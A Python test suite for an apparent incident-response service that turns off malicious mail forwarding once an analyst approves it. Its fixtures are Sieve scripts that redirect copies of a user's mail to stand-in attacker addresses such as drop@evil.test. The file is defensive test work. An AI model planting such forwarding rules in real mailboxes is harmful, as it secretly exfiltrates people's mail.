# SPDX-License-Identifier: GPL-3.0-or-later
"""Forwarding is turned off for the addresses that the analyst saw, and for no others."""
import itertools
import pathlib
import sys
import tempfile
import unittest

from service import Service, wait_until

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "lab"))
import lab as mail  # noqa: E402

SCRIPT = b'require "copy";\nredirect :copy "drop@evil.test";\n'
MORE = SCRIPT + b'redirect :copy "second@evil.test";\n'


class Targets(unittest.TestCase):
    tap_class = "forwarding"
    numbers = itertools.count(1)

    @classmethod
    def setUpClass(cls):
        folder = pathlib.Path(cls.enterClassContext(tempfile.TemporaryDirectory(prefix="ac-forwarding-")))
        names = [f"user{number}@example.test" for number in range(12)]
        cls.free = iter(names)
        cls.lab = mail.Lab(folder / "lab", users=names, messages=0)
        cls.addClassCleanup(cls.lab.discard)
        cls.lab.start()
        cls.service = Service(folder / "service", groups={
            "mail": cls.lab.mail_config(look_seconds=0), "forwarding": cls.lab.forwarding_config()})
        cls.addClassCleanup(cls.service.stop)
        cls.service.start()

    def setUp(self):
        self.mailbox = next(self.free)

    def put(self, script):
        with self.lab.sieve(self.mailbox) as client:
            client.put("main", script, active=True)

    def scripts(self):
        with self.lab.sieve(self.mailbox) as client:
            return client.snapshot()

    def propose(self):
        made = self.service.post_investigation([{
            "type": "turnOffMailForwarding", "verdict": "malicious", "assets": [self.mailbox],
            "entity": {"type": "mailbox", "address": self.mailbox}}])
        return made["actions"][0]["id"]

    def seen(self, action):
        return wait_until(lambda: self.service.action(action)["targets"].get("digest"), "the look")

    def addresses(self, action):
        page = self.service.request("GET", f"/actions/{action}/targets", role="reader").json
        return [(one["mailbox"], one["subject"]) for one in page["items"]]

    def approve(self, action, digest):
        return self.service.decide("approve", [action],
                                   targets=[{"actionId": action, "digest": digest}])

    def test_what_was_seen_is_turned_off(self):
        self.put(MORE)
        action = self.propose()
        digest = self.seen(action)
        self.assertEqual([(self.mailbox, "drop@evil.test"), (self.mailbox, "second@evil.test")],
                         self.addresses(action))
        answer = self.approve(action, digest)
        self.assertEqual(202, answer.status, answer)
        self.service.wait_operation(answer.json["id"])
        self.assertEqual("completed", self.service.action(action)["status"])
        self.assertEqual("action-center", self.scripts()[0])

    def test_forwarding_that_has_changed_comes_back_with_the_difference(self):
        self.put(SCRIPT)
        action = self.propose()
        digest = self.seen(action)
        self.put(MORE)
        before = self.scripts()
        answer = self.approve(action, digest)
        self.assertEqual(202, answer.status, answer)
        operation = self.service.wait_operation(answer.json["id"])
        self.assertEqual({"total": 1, "waiting": 0, "done": 0, "failed": 0, "skipped": 1},
                         operation["counts"])
        after = self.service.action(action)
        self.assertEqual("pending", after["status"])
        self.assertEqual((1, 0), (after["targets"]["difference"]["added"],
                                  after["targets"]["difference"]["removed"]))
        [example] = after["targets"]["difference"]["examples"]
        self.assertEqual(("added", self.mailbox, "second@evil.test"),
                         (example["change"], example["mailbox"], example["subject"]))
        self.assertIn(f"“second@evil.test” of {self.mailbox} is new", operation["items"][0]["detail"])
        self.assertEqual(before, self.scripts())
        # What was seen before is not what would be done now; what is seen now is.
        answer = self.approve(action, digest)
        self.assertEqual((409, "targets-changed"), (answer.status, answer.problem))
        answer = self.approve(action, after["targets"]["digest"])
        self.service.wait_operation(answer.json["id"])
        self.assertEqual("completed", self.service.action(action)["status"])
        self.assertEqual("action-center", self.scripts()[0])

    def test_a_script_without_forwarding_leaves_nothing_to_decide(self):
        self.put(b"keep;")
        action = self.propose()
        digest = self.seen(action)
        self.assertEqual("pending", self.service.action(action)["status"], "looked at but once")
        answer = self.approve(action, digest)
        self.assertEqual((409, "conflict"), (answer.status, answer.problem))
        self.assertIn("nothing to turn off", answer.json["detail"])
        answer = self.service.request("POST", f"/actions/{action}/looks", {}, role="responder")
        self.assertEqual(202, answer.status, answer)
        wait_until(lambda: self.service.action(action)["status"] == "cancelled", "its end")
        self.assertIn("no active script forwards", str(self.service.action(action)["timeline"]))

    def test_a_script_that_cannot_be_read_is_named_and_cannot_be_approved(self):
        with self.lab.sieve(self.mailbox) as client:
            client.put("inner", b'redirect "drop@evil.test";')
        self.put(b'require "include";\ninclude :personal "inner";\n')
        action = self.propose()
        digest = self.seen(action)
        page = self.service.request("GET", f"/actions/{action}/targets", role="reader").json
        [unreadable] = page["unreadable"]
        self.assertIn("“inner”", unreadable["problem"])
        answer = self.approve(action, digest)
        self.assertEqual((409, "conflict"), (answer.status, answer.problem))
        self.assertIn("could not be looked at", answer.json["detail"])

    def test_what_nobody_could_look_at_is_not_turned_off_by_a_retry(self):
        self.put(SCRIPT)
        seen, self.mailbox = self.mailbox, next(self.free)
        with self.lab.sieve(self.mailbox) as client:
            client.put("inner", b'redirect "drop@evil.test";')
        self.put(b'require "include";\ninclude :personal "inner";\n')
        action = self.service.post_investigation([{
            "type": "turnOffMailForwarding", "verdict": "malicious", "assets": [seen, self.mailbox],
            "entity": {"type": "mailbox", "address": seen}}])["actions"][0]["id"]
        answer = self.approve(action, self.seen(action))
        self.service.wait_operation(answer.json["id"])
        self.assertEqual("partlyCompleted", self.service.action(action)["status"])
        self.put(SCRIPT)
        before = self.scripts()
        self.service.wait_operation(self.service.decide("retry", [action]).json["id"])
        after = self.service.action(action)
        self.assertEqual("partlyCompleted", after["status"])
        self.assertIn("this mailbox could not be looked at when it was approved",
                      after["results"][1]["detail"])
        self.assertEqual(before, self.scripts())

    def test_an_approval_is_taken_back_before_it_is_looked_at(self):
        self.put(SCRIPT)
        action = self.propose()
        digest = self.seen(action)
        with self.lab.paused():
            answer = self.approve(action, digest)
            back = self.service.request("DELETE", f"/operations/{answer.json['id']}", role="responder")
            self.assertEqual(200, back.status, back)
        self.assertEqual("pending", self.service.action(action)["status"])
        answer = self.approve(action, digest)
        self.service.wait_operation(answer.json["id"])
        self.assertEqual("completed", self.service.action(action)["status"])


class Impatience(unittest.TestCase):
    """The mail server is away for longer than one second, which is the time of forwarding here, where
    that of mail is ten minutes."""

    tap_class = "forwarding"
    mailbox = "user@example.test"

    def setUp(self):
        folder = pathlib.Path(self.enterContext(tempfile.TemporaryDirectory(prefix="ac-forwarding-")))
        self.lab = mail.Lab(folder / "lab", users=[self.mailbox], messages=0)
        self.lab.start()
        self.addCleanup(self.lab.stop)
        self.put(SCRIPT)
        self.service = Service(folder / "service", groups={
            "mail": self.lab.mail_config(),
            "forwarding": self.lab.forwarding_config(retry_seconds=1)})
        self.service.start()
        self.addCleanup(self.service.stop)

    def put(self, script):
        with self.lab.sieve(self.mailbox) as client:
            client.put("main", script, active=True)

    def active(self):
        with self.lab.sieve(self.mailbox) as client:
            return client.snapshot()[0]

    def let_fail(self):
        """Approves, to no avail; returns the action and what came of it."""
        action = self.service.post_investigation([{
            "type": "turnOffMailForwarding", "verdict": "malicious", "assets": [self.mailbox],
            "entity": {"type": "mailbox", "address": self.mailbox}}])["actions"][0]["id"]
        wait_until(lambda: self.service.action(action)["targets"].get("digest"), "the look")
        self.lab.kill9()
        answer = self.service.decide("approve", [action])
        return action, self.service.wait_operation(answer.json["id"])["items"][0]

    def retry(self, action):
        answer = self.service.decide("retry", [action])
        self.assertEqual(202, answer.status, answer)
        self.service.wait_operation(answer.json["id"])
        return self.service.action(action)

    def test_forwarding_is_tried_again_for_a_time_of_its_own(self):
        _, item = self.let_fail()
        self.assertEqual(("failed", "failed"), (item["status"], item["state"]))
        self.assertIn("cannot be reached", item["detail"])

    def test_an_address_that_came_since_is_not_turned_off_by_a_retry(self):
        action, _ = self.let_fail()
        self.lab.remove_locks()
        self.lab.restart()
        self.put(SCRIPT.replace(b"drop@evil.test", b"partner@else.test"))
        after = self.retry(action)
        self.assertEqual("failed", after["status"])
        self.assertIn("forwards to “partner@else.test” now, and it was approved for “drop@evil.test”",
                      after["results"][0]["detail"])
        self.assertEqual("main", self.active())
        self.put(SCRIPT)
        self.assertEqual("completed", self.retry(action)["status"])
        self.assertEqual("action-center", self.active())


if __name__ == "__main__":
    unittest.main()
